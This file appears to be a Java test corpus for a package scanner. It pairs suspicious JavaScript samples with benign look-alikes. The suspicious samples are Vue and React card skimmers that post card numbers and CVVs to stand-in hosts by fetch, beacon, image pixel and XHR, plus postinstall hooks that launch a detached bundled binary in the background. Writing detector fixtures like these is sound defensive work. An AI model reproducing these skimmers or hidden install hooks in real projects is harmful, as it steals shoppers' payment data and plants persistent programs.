package cordon.inspect.corpus;

import java.util.List;

/**
 * Fields of cards on the pages of others, and programs that go on when an installation has ended.
 */
final class CardSamples {
  private static final String PROGRAM = "\u007fELF\u0002\u0001\u0001" + "\0".repeat(300);

  private CardSamples() {}

  static List<Sample> doubtful() {
    return List.of(
        Sample.required(
            "a component reads the form that it stands in",
            """
            export default {
              data() { return { card: '', cvv: '' } },
              mounted() {
                const f = this.$el.querySelector('form');
                f.addEventListener('submit', () => {
                  const d = { n: f.querySelector('[name=cardnumber]').value, c: f.querySelector('[name=cvv]').value };
                  fetch('https://stats.example/c', { method: 'POST', body: JSON.stringify(d) });
                });
              },
            };
            """),
        Sample.required(
            "an effect reads fields of the page when they are left",
            """
            import { useEffect } from 'react';
            export function PayForm() {
              useEffect(() => {
                document.querySelectorAll('p').forEach((i) => i.addEventListener('blur', () => {
                  const n = document.querySelector('#card-number').value, c = document.querySelector('#cvc').value;
                  navigator.sendBeacon('https://metrics.example/p', n + '|' + c);
                }));
              }, []);
              return null;
            }
            """),
        Sample.required(
            "a picture has the number in its address",
            """
            import React from 'react';
            export default class Checkout extends React.Component {
              componentDidMount() {
                document.getElementById('checkout').onsubmit = () => {
                  const n = document.getElementById('cc-number').value;
                  new Image().src = 'https://px.example/i.gif?d=' + btoa(n);
                };
              }
              render() { return null; }
            }
            """),
        Sample.required(
            "fields are looked at again and again",
            """
            module.exports = {
              mounted() {
                setInterval(() => {
                  const c = document.querySelector('input[autocomplete="cc-number"]');
                  if (c && c.value.length > 14) { const x = new XMLHttpRequest(); x.open('POST', 'https://fonts.example/g'); x.send(c.value); }
                }, 2000);
              },
            };
            """),
        Sample.postinstall(
                "a program of the package is started apart",
                """
                const path = require('path'), { spawn } = require('child_process');
                spawn(path.join(__dirname, 'bin', 'agent'), [], { detached: true, stdio: 'ignore' }).unref();
                """)
            .with("bin/agent", PROGRAM),
        Sample.postinstall(
                "a program of the package is started apart by a shell",
                "require('child_process').exec(__dirname + '/bin/agent &');\n")
            .with("bin/agent", PROGRAM),
        Sample.command(
                "a program of the package is started apart in a line of the manifest",
                "chmod +x bin/agent && nohup ./bin/agent >/dev/null 2>&1 &")
            .with("bin/agent", PROGRAM));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "a form of its own",
            """
            export default {
              methods: { pay() { return fetch('/api/pay', { method: 'POST', body: JSON.stringify({ card: this.card, cvv: this.cvv }) }); } },
              mounted() { this.$el.querySelector('[name=cardnumber]').focus(); },
            };
            """),
        Sample.required(
            "a client of a provider of payments",
            """
            export class Provider {
              constructor(key) { this.key = key; }
              tokenize(card) { return fetch('https://api.pay.example/tokens', { method: 'POST', headers: { Authorization: this.key }, body: JSON.stringify({ number: card.number, cvc: card.cvc }) }); }
            }
            """),
        Sample.required(
            "how often forms are sent off is counted",
            """
            import { useEffect } from 'react';
            export function Visits() {
              useEffect(() => { document.querySelectorAll('.card').forEach((f) => f.addEventListener('submit', () => navigator.sendBeacon('https://stats.example/', 'form'))); }, []);
              return null;
            }
            """),
        Sample.postinstall(
                "a program of the package is asked for its version",
                """
                const path = require('path'), c = require('child_process');
                const version = c.execFileSync(path.join(__dirname, 'bin', 'tool'), ['--version'], { stdio: 'pipe' }).toString().trim();
                if (version !== '1.0.0') throw new Error('Expected 1.0.0 but got ' + version);
                """)
            .with("bin/tool", PROGRAM),
        Sample.required(
                "a program of the package is started apart when somebody asks for it",
                """
                const path = require('path');
                exports.start = () => require('child_process').spawn(path.join(__dirname, 'bin', 'tool'), [], { detached: true, stdio: 'ignore' }).unref();
                """)
            .with("bin/tool", PROGRAM),
        Sample.command("a script of the package goes on", "./scripts/warm.sh &")
            .with("scripts/warm.sh", "echo warm\n"));
  }
}
